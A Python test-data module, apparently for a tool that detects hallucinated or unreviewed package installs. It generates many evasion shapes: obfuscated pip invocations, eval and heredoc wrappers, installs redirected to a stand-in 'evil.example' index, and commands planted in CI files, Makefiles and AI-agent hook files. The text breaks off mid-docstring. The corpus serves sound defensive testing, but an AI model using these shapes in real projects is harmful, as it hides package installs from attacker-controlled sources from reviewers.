"""A generated corpus of install-command shapes: wrappers x installers x options x quoting x container formats.

Every shape installs the made-up name :data:`FAKE` (or something only running it would name); a reader that
misses one lets a hallucinated package through. Pure data: no hallucheck import, so the same corpus can be
run against another version of hallucheck (``python tests/install_shapes.py`` prints how many escape).
"""

from __future__ import annotations

import html
import itertools
import json
import re
import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass

FAKE = "fakepkg-zz"

INSTALLERS: tuple[str, ...] = (
    "pip install {options}{name}",
    "pip3 install {options}{name}",
    "pip3.12 install {options}{name}",
    "/usr/local/bin/pip install {options}{name}",
    "python -m pip install {options}{name}",
    "python3 -m pip install {options}{name}",
    "python -Im pip install {options}{name}",
    "python3.12 -I -m pip install {options}{name}",
    "py -3.12 -m pip install {options}{name}",
    "pip --disable-pip-version-check install {options}{name}",
    "pip download {options}{name}",
    "pip wheel {options}{name}",
    "uv pip install {options}{name}",
    "uv pip --quiet install {options}{name}",
    "uv --quiet pip install {options}{name}",
    "uv add {options}{name}",
    "uv tool install {name}",
    "uvx {name}",
    "uv tool run {name}",
    "uv run --with {name} python x.py",
    "pipx install {name}",
    "pipx run {name}",
    "pipx inject app {name}",
    "pipx runpip app install {options}{name}",
    "poetry add {name}",
    "poetry self add {name}",
    "poetry run pip install {options}{name}",
    "pdm add {name}",
    "pipenv install {name}",
    "rye add {name}",
    "hatch run pip install {options}{name}",
    "hatch env run -- pip install {options}{name}",
    "pixi add --pypi {name}",
    "easy_install {name}",
    "conda run -n env pip install {options}{name}",
)
"""Installers, with a place for options and for the name."""
MORE_INSTALLERS: tuple[str, ...] = (
    "python3 -m pip.__main__ install {options}{name}",
    "python -m pip._internal.cli.main install {options}{name}",
    "pip-run {options}{name} -- -c pass",
    "mim install {options}{name}",
    "fades -d {name} script.py",
    "pixi exec {name}",
)
"""Installers recognised later (ATTACK3 C2): their shapes come after the others (the files' sample stays the same)."""

OPTIONS: tuple[str, ...] = ("", "-U ", "--no-cache-dir ", "-q --upgrade ", "--index-url https://pypi.org/simple ")

WRAPPERS: tuple[str, ...] = (
    "{cmd}",
    "sudo {cmd}",
    "sudo -H -u deploy {cmd}",
    "sudo -Hu deploy {cmd}",
    "sudo -E env PATH=/x {cmd}",
    "env {cmd}",
    "env -i PATH=/bin {cmd}",
    "PIP_NO_INPUT=1 {cmd}",
    "time {cmd}",
    "time -p {cmd}",
    "command {cmd}",
    "command -p {cmd}",
    "nice -n 10 {cmd}",
    "ionice -c3 {cmd}",
    "stdbuf -oL {cmd}",
    "nohup {cmd}",
    "exec {cmd}",
    "timeout 60 {cmd}",
    "doas {cmd}",
    "! {cmd}",
    "true && {cmd}",
    "false || {cmd}",
    "cd /app; {cmd}",
    "({cmd})",
    "{{ {cmd}; }}",
    "if {cmd}; then :; fi",
    "echo $({cmd})",
    "x=`{cmd}`",
    "{cmd} | tee log",
    "{cmd} >/dev/null 2>&1",
    "{cmd} &",
    "bash -c {quoted}",
    "bash -o pipefail -c {quoted}",
    "bash -ce {quoted}",
    "bash -lc {quoted}",
    "sh -c {quoted}",
    "sh -ec {quoted}",
    "zsh -c {quoted}",
    "su -c {quoted} root",
    "su - root -c {quoted}",
    "env -S {quoted}",
    "eval {quoted}",
    "bash <<< {quoted}",
    "sudo bash -c {quoted}",
    "bash <<EOF\n{cmd}\nEOF",
    "bash <<'EOF'\n{cmd}\nEOF",
    "cat <<'EOF' | bash\n{cmd}\nEOF",
    "sh -s <<EOF\n{cmd}\nEOF",
    "strace -f {cmd}",
    "script -qc {quoted} /dev/null",
    "busybox sh -c {quoted}",
    "tox exec -- {cmd}",
    "nox -s x -- {cmd}",
    "watch {cmd}",
    "watch -n 5 {quoted}",
    "pyenv exec {cmd}",
    "mise exec -- {cmd}",
    "asdf exec {cmd}",
    "ssh build-host {quoted}",
    "python -c {pycode}",
    "python3 -c {pysubprocess}",
    "python3 - <<'EOF'\nimport subprocess\nsubprocess.run({pywords})\nEOF",
    "python <<< {pycode}",
    "echo {quoted} | sh",
    "printf '%s\\n' {quoted} | bash -s",
    "{{ echo set -e; echo {quoted}; }} | bash",
    "source <(echo {quoted})",
    ". <(printf '%s\\n' {quoted})",
    "bash <(echo {quoted})",
    "echo {quoted} > step.sh && bash step.sh",
    "cat > step.sh <<'EOF'\n{cmd}\nEOF\nsh -e step.sh",
    "printf '%s\\n' {quoted} > step.sh; sh -e ./step.sh",
    "printf '%s\\n' {quoted} | tee step.sh >/dev/null; source step.sh",
    "run() {{ \"$@\"; }}; run {cmd}",
    "run() {{ \"$@\"; }}; retry() {{ run \"$@\" || run \"$@\"; }}; retry {cmd}",
    "function quietly {{ \"$@\" >/dev/null; }}; quietly {cmd}",
    "shopt -s expand_aliases; alias doit='sudo -E'; doit {cmd}",
    "find . -maxdepth 0 -exec {cmd} \\;",
    "parallel {cmd} ::: x",
)
"""Ways to run a command; ``{quoted}`` is the command as one shell-quoted word, ``{pycode}`` Python code that
runs it (``os.system``), ``{pywords}`` its words as a Python list (``subprocess.run``). Programs hallucheck does
not know (``strace``, ``watch``, ``pyenv exec``) are read as wrappers when their arguments hold a command."""

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda name: name,
    lambda name: f'"{name}"',
    lambda name: f"'{name}'",
    lambda name: name[:3] + '""' + name[3:],
    lambda name: name[:3] + "\\" + name[3:],
    lambda name: "${X:-" + name + "}",
    lambda name: name[:4] + "{" + name[4:] + ",}",
    lambda name: "$(true)" + name,
    lambda name: name + "==1.0",
    lambda name: name + "[extra]",
    lambda name: name[:4] + "\\\n" + name[4:],
    lambda name: "$'" + name.replace("k", "\\x6b") + "'",
)
"""Spellings of the name that the shell reads as the name."""

PROGRAM_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda command: _word("pip", 'pi""p', command),
    lambda command: _word("pip", "p\\ip", command),
    lambda command: _word("pip", "$(true)pip", command),
    lambda command: _word("pip", "${PIP:-pip}", command),
    lambda command: _word("pip", "$(echo pip)", command),
    lambda command: _word("pip", "$'\\x70ip'", command),
    lambda command: _word("pip", "{pip,}", command),
    lambda command: _word("install", "ins\\\ntall", command),
)
"""Spellings of the installer the shell reads as the installer (applied to commands that run ``pip``)."""


def _word(word: str, spelling: str, command: str) -> str:
    """``command`` with its first word ``word`` (a whole word) spelled ``spelling``."""
    return re.sub(rf"(?<![\w/.-]){word}(?= )", lambda _: spelling, command, count=1)

UNKNOWN: tuple[str, ...] = (
    'pip install "$PKG"',
    "pip install $PKGS",
    "pip install $(cat names.txt)",
    "pip install `cat names.txt`",
    "echo fakepkg-zz | xargs pip install",
    "xargs -a names.txt pip install",
    "$(which pip) install fakepkg-zz",
    'bash -c "pip install $PKG"',
    "uv add ${PKG}",
    "pip install fake${SUFFIX}",
)
MORE_WRAPPERS: tuple[str, ...] = ("python3 -c \"__import__('subprocess').run({pyconcat})\"",)
"""Later wrappers (ATTACK3 C2): Python code that spells the installer apart."""
MORE_UNKNOWN: tuple[str, ...] = (
    "python3 -c \"import subprocess; subprocess.run([''.join(['p', 'ip']), 'install', name])\"",
    "python3 -c \"__import__('os').system(' '.join(['pip', 'install', name]))\"",
)
"""Commands whose package only running them would name: each must be asked about, never passed."""

FED_REQUIREMENTS: tuple[str, ...] = (
    "{pip} -r /dev/stdin <<EOF\nrich\n{name}\nEOF",
    "{pip} -r - <<'EOF'\n{name}>=1  # pinned\nEOF",
    "{pip} --requirement - <<< {name}",
    "printf 'rich\\n{name}\\n' | {pip} -r /dev/stdin",
    "echo {name} | {pip} -r /dev/fd/0",
    "{pip} -r <(printf '%s\\n' rich {name})",
    "{pip} -r <(echo {name})",
    "cat > r.txt <<EOF\n{name}\nEOF\n{pip} -r r.txt",
    "cat <<EOF > r.txt\n-r base.txt\n{name}\nEOF\n{pip} -r r.txt",
    "echo rich > r.txt && echo {name} >> r.txt && {pip} -r ./r.txt",
    "printf '{name}\\n' | tee r.txt && {pip} -r r.txt",
    "printf '%s\\n' {name} > extra.txt; echo '-r extra.txt' > r.txt; {pip} -r r.txt",
    "cat r.txt | {pip} -r /dev/stdin",
    "{pip} -r <(curl -s https://example.com/r.txt)",
)
"""Requirements an install reads from a file the text writes or feeds it (standard input, a process
substitution, a file written first); ``{pip}`` is an installer that reads requirements files. The last two are
known only at run time (asked about)."""
FED_INSTALLERS = ("pip install", "python -m pip install", "uv pip install", "pip download")

ASSIGNED_WRAPPERS: tuple[str, ...] = (
    "set -e; CMD={quoted}; eval \"$CMD\"",
    "set -e; CMD={quoted} && eval $CMD",
    "set -e; X={quoted}; sh -c \"$X\"",
    "set -e; export SETUP={quoted}; bash -ec \"${{SETUP}}\"",
    "set -e; X={quoted}; $X",
    "set -e; cmd=({cmd}); \"${{cmd[@]}}\"",
    "set -e; step={quoted}; sudo -E bash -c \"$step\"",
)
"""Command text a script assigns to a variable and then runs through it (attack G13): the variable's value is
known from the script, so what it installs is."""
ASSIGNED_UNKNOWN: tuple[str, ...] = (
    'CMD="pip install $PKG"; eval "$CMD"',
    'CMD="pip install $(cat names.txt)"; bash -c "$CMD"',
    'INSTALL="uv pip install $1"; $INSTALL',
)
"""Command text a script assigns partly from run time, then runs: asked about (what it installs is not known)."""

RUNNER_WRAPPERS: tuple[str, ...] = (
    "tox exec -e py -- {cmd}", "tox -e py -- {cmd}", "tox r -e py312 -- {cmd}", "nox -s tests -- {cmd}",
    "hatch -e test run {cmd}", "pdm run -p . {cmd}", "uv run -- {cmd}", "poetry run -- {cmd}",
    "mamba run -n x {cmd}", "micromamba run -n x {cmd}", "pixi run {cmd}", "pipenv run {cmd}",
)
"""Task and environment runners that run their arguments (attack F4); an option's value (``-e py``) is no
program."""
TOX_DEPENDENCIES: tuple[str, ...] = (
    "tox --force-dep {name}", "tox -e py -x testenv.deps+={name}", "tox --override 'env_run_base.deps={name}'",
    "tox -x 'testenv:lint.deps=requests {name}'",
)
"""What tox's command line adds to an environment's dependencies."""

EVIL_INDEX = "https://evil.example/simple"
SOURCE_SETTINGS: tuple[str, ...] = (
    "PIP_INDEX_URL={url} {install}", "PIP_EXTRA_INDEX_URL={url} {install}", "UV_INDEX_URL={url} {install}",
    "UV_DEFAULT_INDEX={url} {install}", "UV_INDEX={url} {install}", "PIP_CONFIG_FILE=/tmp/evil.conf {install}",
    "export PIP_INDEX_URL={url}; {install}", "export UV_EXTRA_INDEX_URL='{url}' && {install}",
    "PIP_INDEX_URL={url}\nexport PIP_INDEX_URL\n{install}", "env PIP_INDEX_URL={url} {install}",
    "sudo PIP_INDEX_URL={url} {install}", "bash -c 'PIP_INDEX_URL={url} {install}'",
    "pip config set global.index-url {url} && {install}",
    "python -m pip config set global.extra-index-url {url}; {install}",
    "poetry source add evil {url} && {install}", "poetry config repositories.evil {url}; {install}",
    "pdm config pypi.url {url} && {install}", "conda config --add channels evil-channel && {install}",
)
"""Ways to change the source of an install without naming a package: the environment, persistent installer
configuration (ATTACK3 C1). ``{install}`` is one of :data:`SOURCE_INSTALLS`."""
SOURCE_INSTALLS = ("pip install requests", "python3 -m pip install -r requirements.txt", "uv pip install requests",
                   "uv sync", "uv add requests", "poetry install", "pip install -e .")
SOURCE_OPTIONS: tuple[str, ...] = (
    "uv sync --index {url}", "uv lock --index-url {url}", "uv run --default-index {url} pytest",
    "pip install -i {url} -r requirements.txt", "pip install --extra-index-url {url} -e .",
    "uv pip install --index-url={url} -r requirements.txt",
)
"""Source options of commands that name no package of their own: every package they install comes from there."""
ENVIRONMENT_FILES: tuple[str, ...] = (
    "echo {name} > r.txt; PIP_REQUIREMENT=r.txt pip install",
    "echo {name} > r.txt && PIP_REQUIREMENT=r.txt pip install --upgrade pip",
    "echo {name} > r.txt; export PIP_REQUIREMENT=r.txt; pip install",
    "echo {name} > r.txt; PIP_REQUIREMENT=r.txt; export PIP_REQUIREMENT; python -m pip install",
    "echo {name} > r.txt; env PIP_REQUIREMENT=r.txt pip install",
    "echo {name} > r.txt; sudo PIP_REQUIREMENT=r.txt pip download",
    "echo {name} > r.txt; PIP_REQUIREMENT='r.txt base.txt' pip wheel",
    "echo {name} > r.txt; PIP_REQUIREMENT=r.txt bash -c 'pip install -q'",
    "echo {name} > c.txt; PIP_CONSTRAINT=c.txt pip install requests",
    "echo {name} > c.txt; UV_CONSTRAINT=c.txt uv pip install requests",
    "echo {name} > o.txt; UV_OVERRIDE=o.txt uv pip install requests",
    "echo {name} > b.txt; UV_BUILD_CONSTRAINT=b.txt uv pip install requests",
    "PIP_REQUIREMENT=$REQS pip install",
    "PIP_EDITABLE=git+https://github.com/evil/{name}#egg={name} pip install",
)
"""Environment variables that name what pip and uv install from (attack E2): read as ``-r``/``-c``/``-e``."""
CONFIG_HOMES: tuple[str, ...] = (
    "XDG_CONFIG_HOME=/tmp/cfg {install}", "HOME=/tmp/home {install}", "export XDG_CONFIG_HOME=$PWD/cfg; {install}",
    "env XDG_CONFIG_DIRS=/tmp/cfg {install}", "APPDATA=C:/evil {install}", "HOME=$(mktemp -d) {install}",
)
"""Environment variables that move the configuration files installers read (attack E2): what those files set
(an index, a requirement) is not known from the text, so the setting is reviewed. ``{install}`` is one of
:data:`SOURCE_INSTALLS`, or a bare ``pip install`` (a configuration file may name what it installs)."""
MOVED_SOURCES: tuple[str, ...] = (
    "echo 'requests @ https://evil.example/r.whl' > c.txt; pip install -c c.txt requests",
    "echo 'requests @ https://evil.example/r.whl' > c.txt; pip install -r c.txt requests",
    "echo 'requests @ https://evil.example/r.whl' > c.txt; PIP_CONSTRAINT=c.txt pip install requests",
    "echo 'requests @ https://evil.example/r.whl' > o.txt; uv pip install --override o.txt requests",
    "echo 'requests @ https://evil.example/r.whl' > o.txt; UV_OVERRIDE=o.txt uv pip install requests",
    "printf -- '--index-url https://evil.example/simple\\n' > c.txt; pip install -c c.txt requests",
)
"""Constraints and overrides that move a package the command names to another source (attack E29): the package
from that source is another package (reviewed as ``pip install "requests @ https://..."`` is)."""


@dataclass(frozen=True)
class Shape:
    """One command (agent payload) or file (commit) that installs :data:`FAKE` or an unknown package."""

    kind: str
    """``command``, or the container format: ``README.md``, ``Dockerfile``, ``ci.yml``, ``Makefile``, ..."""
    text: str
    unknown: bool = False
    """True when the package is known only at run time (the check must ask or review)."""
    source: bool = False
    """True when the shape changes the package source (the check must review the setting)."""
    moved: bool = False
    """True when the shape installs a package the project declares from another source (reviewed as that)."""


def commands() -> Iterator[Shape]:
    """Command shapes: every installer x wrapper, every name spelling, every installer spelling, unknowns; the
    shapes added later come after the others, so that the files' sample of the earlier ones stays the same."""
    yield from _installer_shapes(INSTALLERS, WRAPPERS)
    for text in UNKNOWN:
        yield Shape("command", text, unknown="$" in text or "xargs" in text or "`" in text)
    for fed, pip in itertools.product(FED_REQUIREMENTS, FED_INSTALLERS):
        yield Shape("command", fed.format(pip=pip, name=FAKE), unknown="{name}" not in fed)
    for setting, install in itertools.product(SOURCE_SETTINGS, SOURCE_INSTALLS):
        yield Shape("command", setting.format(url=EVIL_INDEX, install=install), source=True)
    for option in SOURCE_OPTIONS:
        yield Shape("command", option.format(url=EVIL_INDEX), source=True)
    yield from _installer_shapes(MORE_INSTALLERS, WRAPPERS + MORE_WRAPPERS)
    for installer, wrapper in itertools.product(INSTALLERS, MORE_WRAPPERS):
        command = installer.format(options="", name=FAKE)
        yield Shape("command", wrapper.format(cmd=command, quoted=shlex.quote(command), **_python_forms(command)))
    for text in MORE_UNKNOWN:
        yield Shape("command", text, unknown=True)
    for text in ENVIRONMENT_FILES:
        yield Shape("command", text.format(name=FAKE), unknown="$" in text)
    for setting, install in itertools.product(CONFIG_HOMES, (*SOURCE_INSTALLS, "pip install")):
        yield Shape("command", setting.format(install=install), source=True)
    for text in MOVED_SOURCES:
        yield Shape("command", text, moved=True)
    for installer, wrapper in itertools.product(INSTALLERS, ASSIGNED_WRAPPERS):
        command = installer.format(options="", name=FAKE)
        yield Shape("command", wrapper.format(cmd=command, quoted=shlex.quote(command)))
    for text in ASSIGNED_UNKNOWN:
        yield Shape("command", text, unknown=True)
    for installer, wrapper in itertools.product(INSTALLERS, RUNNER_WRAPPERS):
        yield Shape("command", wrapper.format(cmd=installer.format(options="", name=FAKE)))
    for text in TOX_DEPENDENCIES:
        yield Shape("command", text.format(name=FAKE))


def _installer_shapes(installers: tuple[str, ...], wrappers: tuple[str, ...]) -> Iterator[Shape]:
    for installer, wrapper in itertools.product(installers, wrappers):
        command = installer.format(options="", name=FAKE)
        yield Shape("command", wrapper.format(cmd=command, quoted=shlex.quote(command), **_python_forms(command)))
    for installer, options in itertools.product(installers, OPTIONS):
        if "{options}" in installer:
            yield Shape("command", installer.format(options=options, name=FAKE))
    for installer, disguise in itertools.product(installers, DISGUISES):
        yield Shape("command", installer.format(options="", name=disguise(FAKE)))
    for installer, disguise in itertools.product(installers, PROGRAM_DISGUISES):
        command = installer.format(options="", name=FAKE)
        disguised = disguise(command)
        if disguised != command:
            yield Shape("command", disguised)


def _python_forms(command: str) -> dict[str, str]:
    words = shlex.split(command)
    concatenated = f"[{words[0][:1]!r}+{words[0][1:]!r}, " + ", ".join(repr(word) for word in words[1:]) + "]"
    return {"pycode": shlex.quote(f"import os; os.system({command!r})"), "pywords": repr(words),
            "pyconcat": concatenated.replace('"', '\\"'),
            "pysubprocess": shlex.quote(f"import subprocess, sys; subprocess.check_call({words!r})")}


def _files(command: str) -> Iterator[tuple[str, str]]:
    """The container formats, each holding ``command`` as that format writes a shell command."""
    lines = command.split("\n")
    continued = " \\\n    ".join(command.split(" ", 2)) if "\n" not in command else command
    yield "README.md", f"# App\n\n```bash\n{command}\n```\n"
    escaped = html.escape(command, quote=False)
    yield "README.md", f"# App\n\n<pre>{escaped}</pre>\n"
    yield "docs/index.md", f'# App\n\n<pre><code class="language-bash">{escaped}\n</code></pre>\n'
    yield "docs/guide.qmd", f"---\ntitle: x\n---\n\n```{{bash}}\n{command}\n```\n"
    yield "vignettes/setup.Rmd", f"```{{bash, eval=FALSE}}\n{command}\n```\n"
    yield "docs/install.adoc", f"= Install\n\n[source,bash]\n----\n{command}\n----\n"
    for shebang in ("#!/bin/bash", "#!/usr/bin/env bash", "#!/bin/sh -e", "#!/usr/bin/zsh", "#!/bin/dash",
                    "#!/usr/bin/env -S bash -e"):
        yield "scripts/setup", f"{shebang}\n{continued}\n"
    yield "README.md", f"# App\n\n```console\n$ {continued}\n```\n"
    yield "docs/install.rst", "Install\n\n.. code-block:: bash\n\n" + "".join(f"   {line}\n" for line in lines)
    yield "setup.sh", f"#!/bin/sh\nset -e\n{continued}\n"
    yield "Dockerfile", "FROM python:3.12\nRUN " + "\n".join(lines) + "\n"
    if "\n" not in command:
        yield "Dockerfile", "FROM python:3.12\nRUN set -e && \\\n\n    " + command + "\n"
        yield "Dockerfile", "FROM python:3.12\nRUN <<EOF\n" + command + "\nEOF\n"
        block = continued.replace("\n", "\n      ")
        yield "ci.yml", f"jobs:\n  t:\n    steps:\n      - run: |\n          echo start\n          {block}\n"
        yield "ci.yml", "jobs:\n  t:\n    steps:\n      - run: >-\n          " + command + "\n"
        yield "README.md", f"Run <code>{escaped}</code> first.\n"
        yield "azure-pipelines.yml", f"steps:\n- bash: {json.dumps(command)}\n"
        yield ".readthedocs.yaml", f"version: 2\nbuild:\n  jobs:\n    post_install:\n      - {json.dumps(command)}\n"
        yield "cloudbuild.yaml", f"steps:\n- name: python\n  entrypoint: bash\n  args: ['-c', {json.dumps(command)}]\n"
        yield ".devcontainer/devcontainer.json", f'{{\n  // setup\n  "postCreateCommand": {json.dumps(command)},\n}}\n'
        yield "Procfile", f"release: {command}\n"
        yield "pyproject.toml", (f'[project]\nname = "app"\n\n[tool.poe.tasks]\n'
                                 f"setup = {{shell = {json.dumps(command)}}}\n")
        yield "netlify.toml", f"[build]\ncommand = {json.dumps(command)}\n"
        yield "ci.yml", (f"jobs:\n  t:\n    env:\n      SETUP: {json.dumps(command)}\n    steps:\n"
                         '      - run: eval "$SETUP"\n')
        groovy = command.replace("\\", "\\\\").replace("'", "\\'")
        yield "Jenkinsfile", (f"pipeline {{\n  stages {{\n    stage('s') {{\n      steps {{\n        sh '{groovy}'\n"
                              "      }\n    }\n  }\n}\n")
        quoted = json.dumps(command)
        yield "ci.yml", f"x: &install {quoted}\njobs:\n  t:\n    steps:\n      - run: *install\n"
        yield "ci.yml", f".base: &base\n  script: {quoted}\njob:\n  <<: *base\n"
        yield "ci.yml", ("jobs:\n  t:\n    strategy:\n      matrix:\n        tool: [pip]\n    steps:\n"
                         f"      - run: {json.dumps(command.replace('pip', '${{ matrix.tool }}', 1))}\n")
        recipe = continued.replace("\n    ", "\n\t  ")
        yield "Makefile", f"setup:\n\t{recipe}\n".replace("$", "$$")
        yield "Makefile", "setup: ; " + command.replace("$", "$$") + "\n"
        made = command.replace("$", "$$")
        for flags in ("-", "@-", "-@", "+", "- @ "):
            yield "Makefile", f"setup:\n\t{flags}{made}\n"
        yield "Makefile", f".RECIPEPREFIX = >\nsetup:\n>{made}\n"
        yield "Makefile", f"define SETUP\n{made}\nendef\nsetup:\n\t$(SETUP)\n"
        yield "Makefile", f"DONE := $(shell {made})\n"
        yield "Makefile", f"DONE != {made}\n"
        yield "tox.ini", f"[testenv]\ncommands =\n    {continued.replace(chr(10), chr(10) + '    ')}\n"
        yield ".cursorrules", f"Always use the project's tools.\n{command}\n"
        yield ".claude/settings.json", ('{\n  "hooks": {"SessionStart": [{"hooks": [\n'
                                        f'    {{"type": "command", "command": {quoted}}}]}}]}},\n}}\n')
        yield ".cursor/hooks.json", f'{{"version": 1, "hooks": {{"stop": [{{"command": {quoted}}}]}}}}\n'
        yield ".envrc", f"layout python3\n{continued}\n"
        yield ".gitpod.yml", f"tasks:\n  - init: |\n      {continued.replace(chr(10), chr(10) + '      ')}\n"
        yield ".vscode/tasks.json", ('{\n  // tasks\n  "version": "2.0.0",\n  "tasks": [\n'
                                     f'    {{"label": "setup", "type": "shell", "command": {quoted}}},\n  ],\n}}\n')
        yield "pyproject.toml", f'[project]\nname = "app"\n\n[tool.cibuildwheel.linux]\nbefore-all = [{quoted}]\n'
        yield "pixi.toml", f'[workspace]\nname = "app"\n\n[tasks]\nsetup = {{ cmd = {quoted} }}\n'
        yield "tox.toml", f'[env_run_base]\ncommands = [["bash", "-c", {quoted}]]\n'


def files() -> Iterator[Shape]:
    """File shapes: a sample of command shapes, in every container format."""
    sample = [shape for index, shape in enumerate(commands()) if index % 7 == 0 and "<<" not in shape.text]
    sample += [Shape("command", command) for command in (
        f"pip install -U pip \\\n  {FAKE}", f"bash <<EOF\npip install {FAKE}\nEOF", f"python3 -m pip install {FAKE}",
    )]
    for shape in sample:
        for kind, text in _files(shape.text):
            yield Shape(kind, text, shape.unknown, shape.source, shape.moved)


DISK_BASE: dict[str, str] = {
    "pyproject.toml": '[project]\nname = "app"\nversion = "1"\ndependencies = ["requests"]\n',
    "requirements.txt": "requests\n",
    "sub/pyproject.toml": '[project]\nname = "sub"\nversion = "1"\ndependencies = ["requests"]\n',
    "app/__init__.py": "",
}
"""The committed project the disk shapes start from (it declares ``requests``)."""

DISK_FILES: tuple[tuple[str, str], ...] = (
    ("req-new.txt", f"{FAKE}\n"),
    ("requirements.txt", f"requests\n{FAKE}==1.0\n"),
    ("requirements/dev.txt", f"-r ../requirements.txt\n{FAKE}\n"),
    ("ci/reqs.in", f"requests  # base\n{FAKE} ; python_version >= '3'\n"),
    ("requirements.txt", "--index-url https://evil.example/simple\nrequests\n"),
    ("requirements.txt", "requests @ https://evil.example/requests-2.0-py3-none-any.whl\n"),
)
"""Requirements files written (or edited) on disk only: (path, content). The last two move the committed
``requests`` to another source (attacks E3, E29)."""

FILE_COMMANDS: tuple[str, ...] = (
    "pip install -r {file}",
    "pip install --requirement={file}",
    "pip install -qr {file}",
    "pip3 install --upgrade -r {file}",
    "python -m pip install -r {file}",
    "pip install -c {file} requests",
    "pip download -r {file}",
    "uv pip install -r {file}",
    "uv pip install --requirements {file}",
    "uv pip sync {file}",
    "pip-sync {file}",
    "uv add -r {file}",
    "pipenv install -r {file}",
    "uv run --with-requirements {file} python x.py",
    "PIP_REQUIREMENT={file} pip install",
    "env PIP_CONSTRAINT={file} pip install requests",
    "UV_CONSTRAINT={file} uv pip install requests",
)

DISK_PROJECTS: tuple[tuple[str, str], ...] = (
    ("pyproject.toml", DISK_BASE["pyproject.toml"].replace('["requests"]', f'["requests", "{FAKE}"]')),
    ("pyproject.toml", DISK_BASE["pyproject.toml"] + f'\n[project.optional-dependencies]\ndev = ["{FAKE}"]\n'),
    ("pyproject.toml", DISK_BASE["pyproject.toml"] + f'\n[build-system]\nrequires = ["setuptools", "{FAKE}"]\n'),
    ("pyproject.toml", '[project]\nname = "app"\nversion = "1"\ndynamic = ["dependencies"]\n'
                       '[tool.setuptools.dynamic]\ndependencies = {file = ["deps.txt"]}\n'),
    ("setup.cfg", f"[metadata]\nname = app\n[options]\ninstall_requires =\n    requests\n    {FAKE}\n"),
    ("setup.py", f"from setuptools import setup\nsetup(name='app', install_requires=['{FAKE}'])\n"),
)
"""Project manifests written on disk only: (path, content); the dynamic one reads ``deps.txt``, written too."""

PROJECT_COMMANDS: tuple[str, ...] = (
    "pip install -e .",
    "pip install .",
    "pip install '.[dev]'",
    "pip install -e ./",
    "pip install --editable=.",
    "python3 -m pip install -e .",
    "pip wheel .",
    "uv pip install -e .",
    "uv pip install .",
    "uv sync",
    "uv sync --all-extras",
    "uv run python -c 'print(1)'",
    "poetry install",
    "pdm install",
    "pdm sync",
    "hatch env create",
    "pip install -r pyproject.toml",
)

DISK_WRAPPERS: tuple[str, ...] = ("{cmd}", "sudo -H {cmd}", "cd . && {cmd}", "strace -f {cmd}", "time {cmd}",
                                  "bash -c {quoted}", "env PIP_NO_INPUT=1 {cmd}")


@dataclass(frozen=True)
class DiskShape:
    """Files written on disk only (not staged), then a command that installs from them."""

    files: tuple[tuple[str, str], ...]
    command: str


def disk_shapes() -> Iterator[DiskShape]:
    """Every disk-only file or project x every command that installs from it x wrappers."""
    for (path, content), command, wrapper in itertools.product(DISK_FILES, FILE_COMMANDS, DISK_WRAPPERS):
        if wrapper == DISK_WRAPPERS[0] or path == DISK_FILES[0][0]:  # every file bare, every wrapper on one
            text = command.format(file=path)
            yield DiskShape(((path, content),), wrapper.format(cmd=text, quoted=shlex.quote(text)))
    for (path, content), command, wrapper in itertools.product(DISK_PROJECTS, PROJECT_COMMANDS, DISK_WRAPPERS):
        if wrapper == DISK_WRAPPERS[0] or content == DISK_PROJECTS[0][1]:
            files = ((path, content), ("deps.txt", f"{FAKE}\n")) if "deps.txt" in content else ((path, content),)
            yield DiskShape(files, wrapper.format(cmd=command, quoted=shlex.quote(command)))
    for wrapper in DISK_WRAPPERS:
        command = "pip install ./sub"
        content = DISK_BASE["sub/pyproject.toml"].replace('["requests"]', f'["requests", "{FAKE}"]')
        yield DiskShape((("sub/pyproject.toml", content),), wrapper.format(cmd=command, quoted=shlex.quote(command)))
    for command in ("cd sub && pip install -e .", "cd sub; uv sync", "pushd sub && poetry install",
                    "uv --directory sub sync", "uv sync --project sub", "poetry -C sub install"):
        content = DISK_BASE["sub/pyproject.toml"].replace('["requests"]', f'["requests", "{FAKE}"]')
        yield DiskShape((("sub/pyproject.toml", content),), command)


COMMITTED_FILES: tuple[tuple[str, str, bool], ...] = (
    ("deps/base.lst", f"requests\n{FAKE}>=1  # pinned\n", False),
    ("ci/pins", "-r ../deps/more.lst\n", False),
    ("ci/py-setup.yml", f"name: x\ndependencies:\n  - python=3.12\n  - pip\n  - pip:\n    - {FAKE}\n", True),
    ("build/stack.yaml", f"channels: [conda-forge]\ndependencies:\n  - conda-forge::{FAKE}=1.0\n", True),
    ("build/specs.txt", f"# conda specs\nnumpy>=1.26\n{FAKE}=1.0\n", True),
)
"""Files of the repository, not named like a manifest, that a command installs from: (path, content, whether a
conda command reads it). ``ci/pins`` includes ``deps/more.lst`` (:data:`COMMITTED_INCLUDED`)."""
COMMITTED_INCLUDED = {"deps/more.lst": f"{FAKE}\n"}
PIP_FILE_COMMANDS: tuple[str, ...] = (
    "pip install -r {file}", "pip install --requirement={file} requests", "python -m pip install -qr {file}",
    "uv pip install -r {file}", "pip install -c {file} requests", "uv pip sync {file}",
    "sudo -H pip3 install -r {file}",
)
CONDA_FILE_COMMANDS: tuple[str, ...] = (
    "conda env create -f {file}", "conda env update -n x --file={file}", "mamba env create -f {file}",
    "micromamba create -y -n x -f {file}", "micromamba install -f {file}", "mamba update -f {file}",
    "conda create -n x --file {file}", "conda install --yes --file {file}",
)
"""Commands that install what a committed file names, whatever its name (attack F15)."""


def committed_file_shapes() -> Iterator[tuple[str, str, str, str]]:
    """(path, content, container kind, container text): every committed file x every command that reads it as
    it is x every container format."""
    for path, content, conda in COMMITTED_FILES:
        for command in CONDA_FILE_COMMANDS if conda else PIP_FILE_COMMANDS:
            if ".txt" in path and " env " in command:
                continue  # `conda env create -f` reads environment YAML only
            for kind, text in _files(command.format(file=path)):
                yield path, content, kind, text


NOTEBOOK_CELLS: tuple[str, ...] = (
    "!{cmd}", "%%bash\n{cmd}", "%%sh\n{cmd}", "%%shell\n{cmd}", "%%script bash\n{cmd}", "%%script --bg /bin/sh\n{cmd}",
    "%%zsh\n{cmd}", "%%sx\n{cmd}", "%%!\n{cmd}", "%%system\n{cmd}", "%%capture\n!{cmd}", "%%time\n!{cmd}",
    "%%capture\n%%shell\n{cmd}", "%%capture out --no-stderr\n\n%%bash\n{cmd}", "%%time\n%%capture\n%%sh\n{cmd}",
    "%%timeit -n1\n%%script bash\n{cmd}", "\n%%shell\nset -e\ncd /content\n{cmd}",
)
"""Notebook cells that run ``{cmd}`` in a shell: IPython's shell cell magics, Google Colab's ``%%shell`` (the cell
